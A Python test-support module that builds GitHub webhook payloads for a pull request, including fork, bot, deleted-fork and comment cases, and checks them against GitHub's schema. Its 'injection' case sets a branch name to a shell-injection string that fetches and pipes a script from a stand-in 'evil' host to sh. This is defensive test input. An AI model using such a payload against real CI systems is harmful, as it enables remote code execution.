"""Webhook payloads: GitHub's published examples, and what they lack, derived from the state.

The published ones know no fork, no bot, no comment on a pull request. :class:`Events` lays the
facts of a repository and a pull request over an example of the same event, so that the payload
agrees with what the API says; :func:`deviations` judges it by GitHub's description of webhooks.
"""

from __future__ import annotations

import copy
import dataclasses
import functools
import json
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import jsonschema_rs

from testing.loopback_github import bodies
from testing.loopback_github.description import NODE_MODULES, package_file
from testing.loopback_github.state import ACTIONS_BOT, Comment
from testing.repositories.events import HOSTILE_TITLE, write_event

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from testing.loopback_github.server import GitHub
    from testing.loopback_github.state import ReviewComment, WorkflowRun

EXAMPLES = NODE_MODULES / "@octokit/webhooks-examples/api.github.com/index.json"
WEBHOOKS = NODE_MODULES / "@octokit/openapi-webhooks/generated/api.github.com.json"
_SCHEMAS = "#/components/schemas/"

Payload = dict[str, Any]


@dataclass(frozen=True)
class Event:
    """What ``GITHUB_EVENT_NAME`` and the file at ``GITHUB_EVENT_PATH`` say."""

    name: str
    payload: Payload

    def write(self, folder: Path, name: str = "event.json") -> Path:
        return write_event(folder, self.payload, name)


@functools.cache
def _published() -> dict[str, list[Payload]]:
    rows = json.loads(package_file(EXAMPLES))
    return {row["name"]: row["examples"] for row in rows}


def published(*names: str) -> Iterator[Event]:
    """GitHub's own examples of these events (all without names), each a fresh copy."""
    for name, examples in _published().items():
        if not names or name in names:
            for payload in examples:
                yield Event(name, copy.deepcopy(payload))


@functools.cache
def _webhooks() -> Any:
    return json.loads(package_file(WEBHOOKS))


@functools.cache
def _validator(key: str) -> jsonschema_rs.Draft202012Validator | None:
    document = _webhooks()
    if key not in document["webhooks"]:
        return None
    body = document["webhooks"][key]["post"]["requestBody"]
    schema = body["content"]["application/json"]["schema"]
    needed: dict[str, Any] = {}

    def keep(node: Any) -> None:
        if isinstance(node, dict):
            name = str(node.get("$ref", "")).removeprefix(_SCHEMAS)
            if name and name not in needed:
                needed[name] = document["components"]["schemas"][name]
                keep(needed[name])
            for value in node.values():
                keep(value)
        elif isinstance(node, list):
            for value in node:
                keep(value)

    keep(schema)
    whole = {"allOf": [schema], "components": {"schemas": needed}}
    return jsonschema_rs.Draft202012Validator(whole)


def deviations(event: Event) -> list[str] | None:
    """How a payload deviates from GitHub's description; None for events that it does not have."""
    # A workflow's pull_request_target brings the payload of pull_request.
    name = event.name.removesuffix("_target")
    parts = [name, event.payload.get("action")]
    validator = _validator("-".join(part for part in parts if part).replace("_", "-"))
    if validator is None:
        return None
    return [
        f"{'.'.join(map(str, error.instance_path))}: {error.message[-200:]}"
        for error in validator.iter_errors(event.payload)
    ]


def overlay(under: Any, over: Any) -> Any:
    """``over`` wins; where both are objects, member by member."""
    if isinstance(under, dict) and isinstance(over, dict):
        return {**under, **{name: overlay(under.get(name), value) for name, value in over.items()}}
    return over


class Events:
    """The events of one pull request, as the GitHub ``github`` would send them right now."""

    def __init__(self, github: GitHub, repository: str, number: int) -> None:
        self.api = github.public_url
        self.repo = github.world.repositories[repository.lower()]
        self.pull = self.repo.pulls[number]
        self._new_id = github.world.new_id

    def _frame(self, example: Payload, sender: str, facts: Payload) -> Payload:
        frame = {
            "repository": self._repository(),
            "sender": bodies.user(sender, self.api),
            **facts,
        }
        made: Payload = overlay(example, frame)
        return made

    def _repository(self) -> Payload:
        late = {"has_discussions": False, "topics": [], "custom_properties": {}}
        return {**bodies.repository(self.repo, self.api), **late}

    def _example(self, name: str, action: str) -> Payload:
        found = next(row for row in _published()[name] if row["action"] == action)
        return copy.deepcopy(found)

    def pull_request(self, action: str = "synchronize", **changed: Any) -> Event:
        """``changed`` are fields of the Pull that differ from the state, for this payload only."""
        pr = dataclasses.replace(self.pull, **changed)
        body = bodies.pull(self.repo, pr, self.api)
        late = {"has_discussions": False, "topics": []}
        for side in (body["base"], body["head"]):
            if side["repo"] is not None:
                side["repo"] |= late
        facts: Payload = {
            "action": action, "number": pr.number,
            "pull_request": {**body, "auto_merge": None, "active_lock_reason": None},
        }  # fmt: skip
        if action == "synchronize":
            before = self.repo.source.commit(pr.head_sha).parents[0]
            facts |= {"before": before, "after": pr.head_sha}
        example = self._example("pull_request", action)
        return Event("pull_request", self._frame(example, pr.user, facts))

    def comment(
        self,
        text: str = "/rlm-ci check",
        author: str = "ada",
        *,
        on_pull: bool = True,
        action: str = "created",
    ) -> Event:
        """A comment by ``author``, on the pull request or on an issue of the same number."""
        now = self.pull.updated_at
        made = Comment(self._new_id(), self.pull.number, author, text, None, now, now)
        issue = bodies.issue(self.repo, self.pull, self.api)
        issue |= {"active_lock_reason": None, "reactions": _no_reactions(issue["url"])}
        comment = bodies.comment(self.repo, self.pull, made, self.api)
        if not on_pull:
            del issue["pull_request"]
            issue["html_url"] = issue["html_url"].replace("/pull/", "/issues/")
        facts = {"action": action, "issue": issue, "comment": comment}
        example = self._example("issue_comment", action)
        example["issue"].pop("pull_request", None)
        return Event("issue_comment", self._frame(example, author, facts))

    def review_comment(
        self, text: str, author: str = "ada", *, to: ReviewComment, action: str = "created"
    ) -> Event:
        """A reply by ``author`` in the thread of ``to``, which stays there."""
        now = self.pull.updated_at
        first = to.in_reply_to or to.id
        made = dataclasses.replace(
            to, id=self._new_id(), user=author, body=text, in_reply_to=first, created_at=now,
            updated_at=now, reactions=[],
        )  # fmt: skip
        self.pull.review_comments.append(made)
        comment = bodies.review_comment(self.repo, self.pull, made, self.api)
        pull = bodies.pull(self.repo, self.pull, self.api, full=False)
        facts = {"action": action, "comment": comment, "pull_request": pull}
        example = self._example("pull_request_review_comment", action)
        return Event("pull_request_review_comment", self._frame(example, author, facts))

    def workflow_run(self, run: WorkflowRun, action: str = "completed") -> Event:
        """What starts the second of the two jobs; for a fork, ``pull_requests`` is empty."""
        body = bodies.workflow_run(self.repo, run, self.api)
        who = bodies.user(self.pull.user, self.api)
        body |= {"actor": who, "triggering_actor": who}
        if not body["head_repository"]:
            body["head_repository"] = None
        example = self._example("workflow_run", action)
        facts = {"action": action, "workflow_run": body, "workflow": {"name": run.name}}
        return Event("workflow_run", self._frame(example, self.pull.user, facts))

    def derived(self) -> dict[str, Event]:
        """Case to event: what the published examples lack."""
        fork = f"mallory/{self.repo.name}"
        hostile: Payload = {
            "title": HOSTILE_TITLE, "body": HOSTILE_TITLE, "head_ref": 'x";curl${IFS}evil|sh;"',
            "labels": ["<b>", "@everyone"],
        }  # fmt: skip
        request = self.pull_request
        target = request(user="mallory", head_repository=fork)
        gone = request(user="ghost", head_repository=None)
        return {
            "pull request": request(),
            "pull request opened": request("opened"),
            "null body": request(body=None),
            "fork": target,
            "fork, pull_request_target": Event("pull_request_target", target.payload),
            "deleted fork": gone,
            "bot": request(user="renovate[bot]"),
            "dependabot": request(user="dependabot[bot]", head_ref="dependabot/pip/x-2"),
            "injection": request(**hostile),
            "comment on the pull request": self.comment(),
            "comment on an issue": self.comment(on_pull=False),
            "comment by a stranger": self.comment(author="mallory"),
            "comment by our own bot": self.comment(author=ACTIONS_BOT),
            "comment with an injection": self.comment(f"/rlm-ci check {HOSTILE_TITLE}"),
            "edited comment": self.comment(action="edited"),
        }


def _no_reactions(url: str) -> Payload:
    names = ("+1", "-1", "laugh", "confused", "heart", "hooray", "eyes", "rocket")
    return {"url": f"{url}/reactions", "total_count": 0, **dict.fromkeys(names, 0)}
